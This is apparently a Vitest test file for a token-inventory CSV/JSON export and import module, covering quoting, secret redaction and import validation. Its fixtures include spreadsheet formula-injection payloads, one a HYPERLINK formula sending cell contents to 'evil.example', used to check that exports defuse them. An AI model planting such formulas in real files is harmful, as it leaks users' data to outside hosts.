import { describe, expect, it, vi } from 'vitest';
import { parseImport, redactTokenValues, toCsv, toJson } from '../../electron/tokens/inventory-export';
import { exportRowsLocally } from '../../renderer/src/lib/export-fallback';
import { AppError } from '../../shared/errors';
import { mulberry32, pick } from '../helpers/fuzz-payloads';
import { INVENTORY_EXPORT_FIELDS, InventoryExportDocumentSchema } from '../../shared/token-schemas';
import type { TokenRow } from '../../shared/tokens';

function row(over: Partial<TokenRow> = {}): TokenRow {
  return {
    rowId: 7,
    connectionId: 'c1',
    connectionName: 'Acme QMS',
    sandboxName: null,
    vaultId: 1234,
    vaultDns: 'acme-qms.veevavault.com',
    tokenId: '0PI00000000C003',
    name: 'ETL nightly',
    userId: '61234',
    userName: 'Dana Scully',
    status: 'expiring',
    expiresAt: '2026-06-10T23:59:59.000Z',
    daysLeft: 9,
    lastUsedAt: '2026-05-31T08:00:00.000Z',
    createdAt: '2026-01-01T00:00:00.000Z',
    secretStored: true,
    source: 'generated',
    readOnly: false,
    revokedAt: null,
    lastSyncedAt: '2026-06-01T11:00:00.000Z',
    userActiveCount: 3,
    ...over,
  };
}

/** Minimal RFC 4180 reader, to check what a spreadsheet would see. */
function readCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      record.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      record.push(cell);
      records.push(record);
      record = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  expect(cell).toBe('');
  expect(record).toEqual([]);
  return records;
}

const SECRET = 'veeva-vault-B5A79ABCDEF0123456789';

/** A row carrying a token value in extra fields, as a careless caller might pass it. */
function rowWithSecret(): TokenRow {
  return Object.assign(row(), { value: SECRET, token: SECRET, token__sys: SECRET, secret: { value: SECRET } });
}

describe('toCsv', () => {
  it('writes a header and one line per row, CRLF, metadata only', () => {
    const csv = toCsv([
      row(),
      row({
        tokenId: '0PI00000000C004',
        expiresAt: null,
        daysLeft: null,
        status: 'active',
        secretStored: false,
        userName: null,
      }),
    ]);
    expect(csv.endsWith('\r\n')).toBe(true);
    const [header, first, second] = readCsv(csv);
    expect(header).toEqual([...INVENTORY_EXPORT_FIELDS]);
    expect(first).toEqual([
      'Acme QMS',
      'acme-qms.veevavault.com',
      '1234',
      '0PI00000000C003',
      'ETL nightly',
      '61234',
      'Dana Scully',
      'expiring',
      '2026-06-10T23:59:59.000Z',
      '2026-05-31T08:00:00.000Z',
      '2026-01-01T00:00:00.000Z',
      'true',
      'generated',
      '',
      '2026-06-01T11:00:00.000Z',
    ]);
    expect(second![INVENTORY_EXPORT_FIELDS.indexOf('expiresAt')]).toBe('');
    expect(second![INVENTORY_EXPORT_FIELDS.indexOf('userName')]).toBe('');
    expect(second![INVENTORY_EXPORT_FIELDS.indexOf('secretStored')]).toBe('false');
    expect(toCsv([])).toBe(`${INVENTORY_EXPORT_FIELDS.join(',')}\r\n`);
  });

  it('quotes commas, quotes, line breaks and edge spaces (RFC 4180)', () => {
    const csv = toCsv([row({ name: 'Load, "fast"\r\nand clean', connectionName: ' padded ' })]);
    expect(csv).toContain('"Load, ""fast""\r\nand clean"');
    expect(csv).toContain('" padded "');
    const [, first] = readCsv(csv);
    expect(first![INVENTORY_EXPORT_FIELDS.indexOf('name')]).toBe('Load, "fast"\r\nand clean');
    expect(first![INVENTORY_EXPORT_FIELDS.indexOf('connection')]).toBe(' padded ');
  });

  it.each(['=HYPERLINK("http://x","y")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '  =1+1'])(
    'defuses a cell starting like a formula: %j',
    (name) => {
      const [, first] = readCsv(toCsv([row({ name })]));
      expect(first![INVENTORY_EXPORT_FIELDS.indexOf('name')]).toBe(`'${name}`);
    },
  );

  it('leaves ordinary text and numbers alone', () => {
    const [, first] = readCsv(toCsv([row({ name: 'a=b', vaultId: 42 })]));
    expect(first![INVENTORY_EXPORT_FIELDS.indexOf('name')]).toBe('a=b');
    expect(first![INVENTORY_EXPORT_FIELDS.indexOf('vaultId')]).toBe('42');
  });

  it('can start with a byte-order mark for Excel', () => {
    expect(toCsv([], { bom: true }).startsWith('\uFEFFconnection,')).toBe(true);
    expect(toCsv([]).startsWith('connection,')).toBe(true);
  });
});

describe('one CSV escaper for both sides (issue 11, finding 7)', () => {
  it('the renderer’s export of held rows is byte-for-byte what main writes, formula guard and redaction included', () => {
    const hostile = [
      row({ name: '  =HYPERLINK("https://evil.example/?"&A1)' }),
      row({ rowId: 2, tokenId: '0PI000000000002', name: '\t@SUM(1)', userName: 'veeva-vault-ABCDEFGHIJKLMNOP1234' }),
      row({ rowId: 3, tokenId: '0PI000000000003', name: 'plain, with "quotes"' }),
    ];
    const local = exportRowsLocally(hostile, 'csv', new Date('2027-01-01T00:00:00Z'));
    expect(local.content).toBe(toCsv(hostile));
    expect(local.content).not.toMatch(/veeva-vault-[A-Za-z0-9]/);
    expect(local.content).toContain(`"'  =HYPERLINK(""https://evil.example/?""&A1)"`);
    expect(local.content).toContain("'\t@SUM(1)");
    const json = exportRowsLocally(hostile, 'json', new Date('2027-01-01T00:00:00Z'));
    expect(json.content).toBe(toJson(hostile, { exportedAt: '2027-01-01T00:00:00.000Z' }));
  });
});

describe('toJson', () => {
  it('writes the versioned document with exactly the listed fields per row', () => {
    const text = toJson([row()], { exportedAt: new Date('2026-06-01T12:00:00Z') });
    const doc = JSON.parse(text) as {
      format: string;
      version: number;
      exportedAt: string;
      rows: Record<string, unknown>[];
    };
    expect(Object.keys(doc)).toEqual(['format', 'version', 'exportedAt', 'rows']);
    expect(doc).toMatchObject({
      format: 'vault-token-desk-inventory',
      version: 1,
      exportedAt: '2026-06-01T12:00:00.000Z',
    });
    expect(Object.keys(doc.rows[0]!)).toEqual([...INVENTORY_EXPORT_FIELDS]);
    expect(doc.rows[0]).toMatchObject({
      connection: 'Acme QMS',
      vaultId: 1234,
      secretStored: true,
      revokedAt: null,
      status: 'expiring',
    });
    // Local bookkeeping stays home.
    for (const local of ['rowId', 'connectionId', 'daysLeft', 'readOnly', 'userActiveCount'])
      expect(doc.rows[0]).not.toHaveProperty(local);
  });
});

describe('no token value can leave in an export', () => {
  it('extra fields on the rows are never copied, in CSV or JSON', () => {
    const rows = [rowWithSecret()];
    const outputs = [toCsv(rows), toCsv(rows, { bom: true }), toJson(rows, { exportedAt: '2026-06-01T12:00:00.000Z' })];
    for (const out of outputs) {
      expect(out).not.toMatch(/veeva-vault-/i);
      expect(out).not.toContain('B5A79ABCDEF');
    }
  });

  it('text that looks like a token value in any field is redacted', () => {
    const leaky = row({
      name: `copy of ${SECRET} for later`,
      userName: SECRET,
      connectionName: `VEEVA-VAULT-abc`,
      tokenId: SECRET,
    });
    for (const out of [toCsv([leaky]), toJson([leaky], { exportedAt: '2026-06-01T12:00:00.000Z' })]) {
      expect(out).not.toMatch(/veeva-vault-/i);
      expect(out).toContain('copy of [redacted] for later');
    }
    expect(redactTokenValues(`a ${SECRET}, b veeva-vault-`)).toBe('a [redacted], b [redacted]');
  });

  it('an import cannot bring one in either', () => {
    const text = JSON.stringify({
      format: 'vault-token-desk-inventory',
      version: 1,
      exportedAt: '2026-06-01T12:00:00Z',
      rows: [
        {
          ...JSON.parse(toJson([row()], { exportedAt: '2026-06-01T12:00:00Z' })).rows[0],
          name: SECRET,
          value: SECRET,
          token: SECRET,
        },
      ],
    });
    const rows = parseImport(text);
    expect(JSON.stringify(rows)).not.toMatch(/veeva-vault-/i);
    expect(rows[0]!.name).toBe('[redacted]');
  });
});

describe('parseImport', () => {
  const exported = (rows: TokenRow[]) => toJson(rows, { exportedAt: '2026-06-01T12:00:00.000Z' });

  it('reads back an export as read-only rows for importRows', () => {
    const rows = parseImport(
      exported([
        row(),
        row({ tokenId: '0PI00000000C005', status: 'revoked', revokedAt: '2026-05-20T10:00:00.000Z', expiresAt: null }),
        row({ tokenId: '0PI00000000C006', status: 'expired', vaultId: null, userName: null }),
      ]),
    );
    expect(rows).toEqual([
      {
        connectionName: 'Acme QMS',
        vaultId: 1234,
        vaultDns: 'acme-qms.veevavault.com',
        tokenId: '0PI00000000C003',
        name: 'ETL nightly',
        userId: '61234',
        userName: 'Dana Scully',
        lifecycle: 'active',
        expiresAt: '2026-06-10T23:59:59.000Z',
        lastUsedAt: '2026-05-31T08:00:00.000Z',
        createdAt: '2026-01-01T00:00:00.000Z',
        revokedAt: null,
        lastSyncedAt: '2026-06-01T11:00:00.000Z',
      },
      expect.objectContaining({
        tokenId: '0PI00000000C005',
        lifecycle: 'revoked',
        revokedAt: '2026-05-20T10:00:00.000Z',
        expiresAt: null,
      }),
      expect.objectContaining({ tokenId: '0PI00000000C006', lifecycle: 'active', vaultId: null, userName: null }),
    ]);
  });

  it('accepts a byte-order mark, other date forms, and keeps the last of duplicate rows', () => {
    const doc = JSON.parse(exported([row(), row({ name: 'second copy' })]));
    doc.rows[1].expiresAt = '2026-06-10';
    const rows = parseImport(`\uFEFF${JSON.stringify(doc)}`);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ name: 'second copy', expiresAt: '2026-06-10T00:00:00.000Z' });
  });

  it('an empty export imports nothing', () => {
    expect(parseImport(exported([]))).toEqual([]);
  });

  function errorOf(text: string): AppError {
    try {
      parseImport(text);
    } catch (error) {
      expect(error).toBeInstanceOf(AppError);
      expect((error as AppError).code).toBe('VALIDATION');
      return error as AppError;
    }
    throw new Error('parseImport accepted it');
  }

  it.each([
    ['', /empty/],
    ['   ', /empty/],
    ['not json at all {', /not valid JSON/],
    ['[1,2,3]', /not a Vault Token Desk inventory export/],
    ['{"format":"something-else","version":1,"rows":[]}', /"format" is "something-else"/],
    ['{"version":1,"rows":[]}', /"format" is missing/],
    ['{"format":"vault-token-desk-inventory","version":2,"rows":[]}', /newer version .*version 2/],
    ['{"format":"vault-token-desk-inventory","version":1}', /rows/],
    ['connection,vaultDns,vaultId\r\nAcme,acme.veevavault.com,1\r\n', /CSV export/],
  ])('refuses %j with a clear message', (text, message) => {
    expect(errorOf(text).message).toMatch(message);
  });

  it('names the row and field that are wrong, with a short snippet only', () => {
    const doc = JSON.parse(exported([row(), row(), row()]));
    doc.rows[2].expiresAt = '2026-13-45T99:99:99Z and then a very long tail of text that must not be echoed back';
    const message = errorOf(JSON.stringify(doc)).message;
    expect(message).toContain('row 3, expiresAt');
    expect(message).toContain('not a date');
    expect(message).toContain('"2026-13-45T99:99:99Z and…"');
    expect(message).not.toContain('very long tail');
  });

  it('reports missing and mistyped fields, and how many problems there are', () => {
    const doc = JSON.parse(exported([row(), row()]));
    delete doc.rows[0].tokenId;
    doc.rows[1].secretStored = 'yes';
    doc.rows[1].status = 'zombie';
    doc.rows[1].vaultId = 'abc';
    const message = errorOf(JSON.stringify(doc)).message;
    expect(message).toContain('row 1, tokenId');
    expect(message).toContain('(missing)');
    expect(message).toMatch(/row 2, (secretStored|status|vaultId)/);
    expect(message).toContain('and 1 more problem');
  });

  it('never quotes a token value from the file in its message', () => {
    const doc = JSON.parse(exported([row()]));
    doc.rows[0].expiresAt = SECRET;
    const message = errorOf(JSON.stringify(doc)).message;
    expect(message).not.toMatch(/veeva-vault-/i);
    expect(message).toContain('[redacted]');
    // nor JSON.parse's own message, which quotes the text
    expect(errorOf(`{"name": "${SECRET}" oops`).message).not.toMatch(/veeva-vault-|oops/);
  });
});

describe('parseImport: the fast check of an export', () => {
  // Odd values for any field: some the schema takes (other date forms, missing optionals), most it refuses.
  const ODD: unknown[] = [
    null,
    undefined,
    '',
    ' ',
    0,
    -0,
    1.5,
    2 ** 53,
    true,
    'yes',
    [],
    {},
    'x'.repeat(101),
    'x'.repeat(301),
    ' 0PI00000000C003 ',
    '2026-06-10',
    '2026-06-10T10:00:00Z',
    '2026-06-10T10:00:00.000+02:00',
    '2026-02-29T00:00:00.000Z',
    '2024-02-29T00:00:00.000Z',
    '2026-13-01T00:00:00.000Z',
    '2026-06-10T24:00:00.000Z',
    'active',
    'revoked',
    'zombie',
    'import',
    'veeva-vault-0123456789abcdef',
  ];

  const NOW = '2026-06-01T12:00:00.000Z';
  /** A token row whose id the schema trims: it sends the whole file down the schema's path. */
  const slowPath = () => ({
    ...JSON.parse(toJson([row({ tokenId: 'SLOW-PATH-ROW' })], { exportedAt: NOW })).rows[0],
    tokenId: ' SLOW-PATH-ROW ',
  });

  const outcome = (rows: unknown[]) => {
    try {
      return {
        rows: parseImport(JSON.stringify({ format: 'vault-token-desk-inventory', version: 1, exportedAt: NOW, rows })),
      };
    } catch (error) {
      return { error: (error as Error).message };
    }
  };

  it('takes exactly the rows the schema takes, and reads them exactly as the schema does', () => {
    const r = mulberry32(99);
    let accepted = 0;
    let refused = 0;
    for (let i = 0; i < 600; i++) {
      const doc = JSON.parse(toJson([row({ tokenId: `0PI${i}` })], { exportedAt: NOW })).rows[0] as Record<
        string,
        unknown
      >;
      // Zero to three fields get an odd value.
      const changes = Math.floor(r() * 4);
      for (let c = 0; c < changes; c++) {
        const field = pick(r, INVENTORY_EXPORT_FIELDS);
        const value = pick(r, ODD);
        if (value === undefined) delete doc[field];
        else doc[field] = value;
      }
      const fast = outcome([doc]);
      const schema = outcome([doc, slowPath()]);
      if ('error' in schema) {
        expect(fast, JSON.stringify(doc)).toHaveProperty('error');
        refused += 1;
      } else {
        expect(fast.rows, JSON.stringify(doc)).toEqual(schema.rows!.filter((x) => x.tokenId !== 'SLOW-PATH-ROW'));
        accepted += 1;
      }
    }
    expect(accepted).toBeGreaterThan(100);
    expect(refused).toBeGreaterThan(100);
  });

  it('is the path an export from the app takes; the schema is not run at all', () => {
    const safeParse = vi.spyOn(InventoryExportDocumentSchema, 'safeParse');
    try {
      expect(outcome([JSON.parse(toJson([row()], { exportedAt: NOW })).rows[0]])).toHaveProperty('rows');
      expect(safeParse).not.toHaveBeenCalled();
      expect(outcome([slowPath()])).toHaveProperty('rows');
      expect(safeParse).toHaveBeenCalledTimes(1);
    } finally {
      safeParse.mockRestore();
    }
  });

  it('reports progress as it checks rows', () => {
    const rows = Array.from({ length: 25_000 }, (_, i) => row({ tokenId: `0PI${String(i).padStart(12, '0')}` }));
    const seen: [number, number][] = [];
    expect(parseImport(toJson(rows, { exportedAt: NOW }), (done, total) => seen.push([done, total]))).toHaveLength(
      25_000,
    );
    expect(seen).toEqual([
      [10_000, 25_000],
      [20_000, 25_000],
      [25_000, 25_000],
    ]);
  });
});
